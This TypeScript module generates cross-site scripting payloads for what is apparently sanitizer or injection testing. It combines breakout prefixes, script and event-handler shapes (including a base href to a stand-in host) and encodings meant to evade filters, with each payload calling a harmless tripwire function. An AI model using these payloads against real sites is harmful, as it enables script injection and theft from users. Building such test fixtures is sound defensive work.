/** What a payload calls when it runs; nothing of ours has that name. */
export const tripwire = 'xqz'

/** What brings a text out of the place in which a page puts it. */
const ways = ['', '">', "'>", '` ', '-->', ']]>', '</script>', '</title>', '</textarea>', '</style>', '" ', "' "]

/** What runs, once it is out. */
const shapes = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<img src=x onerror=${run}>`,
  (run: string) => `<svg onload=${run}>`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>">`,
  (run: string) => `<a href="javascript:${run}">klik</a>`,
  (run: string) => `<a href="java\tscript:${run}">klik</a>`,
  (run: string) => `<details open ontoggle=${run}>`,
  (run: string) => `<math><mtext></p><style><img src onerror=${run}></style>`,
  (run: string) => `<form action="javascript:${run}"><button>klik`,
  (run: string) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  (run: string) => `<base href="//kwaad.example/${run}/">`,
  (run: string) => `autofocus onfocus=${run} x="`,
  (run: string) => `javascript:${run}`,
  (run: string) => `data:text/html,<script>${run}</script>`,
  (run: string) => `{{constructor.constructor('${run}')()}}`,
  (run: string) => `[klik](javascript:${run})`,
]

/** How it is written, so that whoever looks for the usual does not see it. */
const writings = [
  (text: string) => text,
  (text: string) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (text: string) => text.replaceAll(' ', '/'),
  (text: string) => text.replaceAll('<', '\0<'),
  (text: string) => text.replaceAll('<', '&lt;'),
  (text: string) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text: string) => text.replaceAll('=', '\n=\n'),
  (text: string) => `${text}\u2028${text}`,
]

/** Cross-site scripting payloads: every way out, shape and writing together, each with a call of its own. */
export const payloads: readonly string[] = [
  ...new Set(
    ways.flatMap((way) => shapes.flatMap((shape) => writings.map((write) => write(way + shape(`${tripwire}()`))))),
  ),
]
